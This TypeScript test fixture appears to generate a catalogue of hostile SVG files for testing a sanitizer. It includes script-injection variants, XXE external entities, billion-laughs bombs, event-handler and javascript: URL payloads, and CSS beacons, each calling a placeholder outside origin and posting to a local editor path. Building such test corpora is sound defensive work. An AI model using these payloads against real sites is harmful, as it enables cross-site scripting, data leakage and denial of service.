/** Drawings (SVG) that try to run a script or to ask another server for something, each in its own way. */
import { gzipSync } from 'node:zlib'

const open =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" width="90" height="60" viewBox="0 0 90 60">'
const shape = '<rect width="90" height="60" fill="#285078"/>'

/** The drawings by name. `away` is the origin of the server that must not be asked; each asks for a path with its own name. */
export function hostileDrawings(away: string): Map<string, string | Buffer> {
  const code = (name: string) =>
    `document.documentElement.setAttribute('data-ran','1');new Image().src='${away}/${name}/ran';fetch('/.build-portal/editor',{method:'POST',body:'{}'});alert('${name}')`
  const drawn = (inside: string) => `${open}${shape}${inside}</svg>`
  const base64 = (text: string) => Buffer.from(text).toString('base64')
  const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
  const entity = (declared: string, used: string) => `<!DOCTYPE svg [${declared}]>${drawn(used)}`
  const quoted = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;')
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')
  const uses = Array.from({ length: 9 }, (_, at) => `<g id="u${at + 1}">${`<use href="#u${at}"/>`.repeat(10)}</g>`)
  const list: Record<string, (name: string) => string | Buffer> = {
    // Scripts
    script: (name) => drawn(`<script>${code(name)}</script>`),
    'script-cdata': (name) => drawn(`<script><![CDATA[${code(name)}]]></script>`),
    'script-prefixed': (name) =>
      `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>${code(name)}</s:script></s:svg>`,
    'script-html': (name) => drawn(`<h:script>${code(name)}</h:script>`),
    'script-html-default': (name) => drawn(`<script xmlns="http://www.w3.org/1999/xhtml">${code(name)}</script>`),
    'script-away': (name) => drawn(`<script href="${away}/${name}/s.js"/>`),
    'script-xlink': (name) => drawn(`<script xlink:href="${away}/${name}/s.js"/>`),
    'script-attached': () => drawn('<script href="ma.txt"/>'),
    'script-attached-xlink': () => drawn('<script xlink:href="ma.txt" type="text/javascript"/>'),
    'script-data': (name) => drawn(`<script href="data:text/javascript;base64,${base64(code(name))}"/>`),
    'script-module': () => drawn('<script type="module" href="ma.txt"/>'),
    'script-in-defs': (name) => drawn(`<defs><g><script>${code(name)}</script></g></defs>`),
    'script-in-metadata': (name) => drawn(`<metadata><script>${code(name)}</script></metadata>`),
    'script-in-title': (name) => drawn(`<title><script>${code(name)}</script></title>`),
    'script-in-desc-html': (name) => drawn(`<desc><h:script>${code(name)}</h:script></desc>`),
    'script-utf16': (name) => utf16(drawn(`<script>${code(name)}</script>`)),
    'script-bom': (name) => `\ufeff${drawn(`<script>${code(name)}</script>`)}`,
    'script-windows-1252': (name) =>
      `<?xml version="1.0" encoding="windows-1252"?>${drawn(`<script>${code(name)}</script>`)}`,
    'script-references': (name) =>
      drawn(`<script>${code(name).replace(/[a-z]/g, (sign) => `&#${sign.charCodeAt(0)};`)}</script>`),
    // Entities
    'entity-script': (name) => entity(`<!ENTITY x "<script>${quoted(code(name))}</script>">`, '&x;'),
    'entity-script-attached': () => entity('<!ENTITY x \'<script href="ma.txt"/>\'>', '&x;'),
    'entity-handler': (name) => entity(`<!ENTITY x "${quoted(code(name))}">`, '<g onload="&x;"/>'),
    'entity-namespace': (name) =>
      entity('<!ENTITY n "http://www.w3.org/1999/xhtml">', `<script xmlns="&n;">${code(name)}</script>`),
    'entity-address': (name) =>
      entity('<!ENTITY j "javascript">', `<a href="&j;:${code(name)}"><text y="20">x</text></a>`),
    'entity-external': (name) => entity(`<!ENTITY x SYSTEM "${away}/${name}/x.xml">`, '<text>&x;</text>'),
    'entity-parameter': (name) => entity(`<!ENTITY % p SYSTEM "${away}/${name}/p.dtd"> %p;`, ''),
    'attlist-default': (name) => entity(`<!ATTLIST g onload CDATA "${quoted(code(name))}">`, '<g/>'),
    'doctype-away': (name) => `<!DOCTYPE svg SYSTEM "${away}/${name}/svg.dtd">${drawn('')}`,
    'billion-laughs': () => entity(`<!ENTITY e0 "ha">${laughs}`, '<text>&e9;</text>'),
    'billion-uses': () => drawn(`<defs><rect id="u0" width="1" height="1"/>${uses.join('')}</defs><use href="#u9"/>`),
    // Handlers
    onload: (name) => `${open.replace('<svg ', `<svg onload="${code(name)}" `)}${shape}</svg>`,
    'onload-child': (name) => drawn(`<g onload="${code(name)}"/>`),
    onerror: (name) => drawn(`<image href="khong-co.png" onerror="${code(name)}"/>`),
    onbegin: (name) => drawn(`<animate attributeName="x" dur="1s" onbegin="${code(name)}"/>`),
    onend: (name) => drawn(`<set attributeName="x" to="1" dur="0.01s" onend="${code(name)}"/>`),
    onfocus: (name) => drawn(`<g tabindex="0" autofocus="" onfocus="${code(name)}"><rect width="9" height="9"/></g>`),
    onclick: (name) => drawn(`<rect width="90" height="60" onclick="${code(name)}"/>`),
    'handler-element': (name) =>
      drawn(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code(name)}</handler>`),
    // Addresses
    'a-javascript': (name) => drawn(`<a href="javascript:${code(name)}"><rect width="90" height="60"/></a>`),
    'a-javascript-blanks': (name) =>
      drawn(`<a xlink:href="&#9;java&#10;script:${code(name)}"><rect width="90" height="60"/></a>`),
    'animate-href': (name) =>
      drawn(
        `<a href="#x"><rect width="90" height="60"/><animate attributeName="href" values="javascript:${code(name)}"/></a>`,
      ),
    'set-xlink-href': (name) =>
      drawn(`<a><rect width="90" height="60"/><set attributeName="xlink:href" to="javascript:${code(name)}"/></a>`),
    'set-onclick': (name) =>
      drawn(`<rect id="r" width="90" height="60"><set attributeName="onclick" to="${code(name)}"/></rect>`),
    'image-away': (name) => drawn(`<image href="${away}/${name}/a.png" width="9" height="9"/>`),
    'image-svg-data': (name) =>
      drawn(
        `<image width="9" height="9" href="data:image/svg+xml;base64,${base64(drawn(`<script>${code(name)}</script>`))}"/>`,
      ),
    'use-away': (name) => drawn(`<use href="${away}/${name}/a.svg#x"/>`),
    'use-data': (name) =>
      drawn(
        `<use href="data:image/svg+xml;base64,${base64(`${open.replace('<svg ', '<svg id="x" ')}<script>${code(name)}</script></svg>`)}#x"/>`,
      ),
    'fe-image': (name) =>
      drawn(
        `<filter id="f"><feImage href="${away}/${name}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
      ),
    'gradient-away': (name) => drawn(`<rect width="9" height="9" fill="url(${away}/${name}/g.svg#x)"/>`),
    'filter-away': (name) => drawn(`<rect width="9" height="9" style="filter:url('${away}/${name}/f.svg#x')"/>`),
    'animate-fill-away': (name) =>
      drawn(`<rect width="9" height="9"><set attributeName="mask" to="url(${away}/${name}/m.svg#x)"/></rect>`),
    'xml-base': (name) =>
      `${open.replace('<svg ', `<svg xml:base="${away}/${name}/" `)}<image href="a.png" width="9" height="9"/></svg>`,
    // Styles
    'style-import': (name) => drawn(`<style>@import url("${away}/${name}/a.css");</style>`),
    'style-import-text': (name) => drawn(`<style>/**/@import "${away}/${name}/a.css";rect{fill:red}</style>`),
    'style-font': (name) =>
      drawn(
        `<style>@font-face{font-family:x;src:url(${away}/${name}/f.woff2)}</style><text y="20" font-family="x">x</text>`,
      ),
    'style-background': (name) => drawn(`<style>svg{background:url(${away}/${name}/b.png)}</style>`),
    'style-escaped': (name) => drawn(`<style>svg{background:\\75rl(${away}/${name}/b.png)}</style>`),
    'style-image-set': (name) =>
      drawn(`<style>@media all{svg{background:image-set("${away}/${name}/b.png" 1x)}}</style>`),
    'style-cursor': (name) =>
      `${open.replace('<svg ', `<svg style="cursor:url(${away}/${name}/c.cur),auto" `)}${shape}</svg>`,
    'stylesheet-instruction': (name) => `<?xml-stylesheet href="${away}/${name}/a.css" type="text/css"?>${drawn('')}`,
    'stylesheet-xslt': () => `<?xml-stylesheet href="ma.txt" type="text/xsl"?>${drawn('')}`,
    // Other documents
    foreignobject: (name) =>
      drawn(
        `<foreignObject width="90" height="60"><h:body><h:img src="x" onerror="${code(name)}"/></h:body></foreignObject>`,
      ),
    'foreignobject-switch': (name) =>
      drawn(
        `<switch><foreignObject width="90" height="60"><h:iframe src="${away}/${name}/"/></foreignObject><text y="20">x</text></switch>`,
      ),
    'html-iframe': (name) => drawn(`<h:iframe src="${away}/${name}/"/>`),
    'html-link': (name) => drawn(`<h:link rel="stylesheet" href="${away}/${name}/a.css"/>`),
    'html-meta': (name) => drawn(`<h:meta http-equiv="refresh" content="0;url=${away}/${name}/"/>`),
    'html-embed': (name) => drawn(`<h:object data="${away}/${name}/"/><h:embed src="${away}/${name}/"/>`),
    'html-video': (name) => drawn(`<h:video src="${away}/${name}/v.mp4" autoplay=""/>`),
    'not-closed': (name) => `${open}<script>${code(name)}</script><g>`,
    compressed: (name) => gzipSync(drawn(`<script>${code(name)}</script>`)),
  }
  return new Map(Object.entries(list).map(([name, make]) => [name, make(name)]))
}
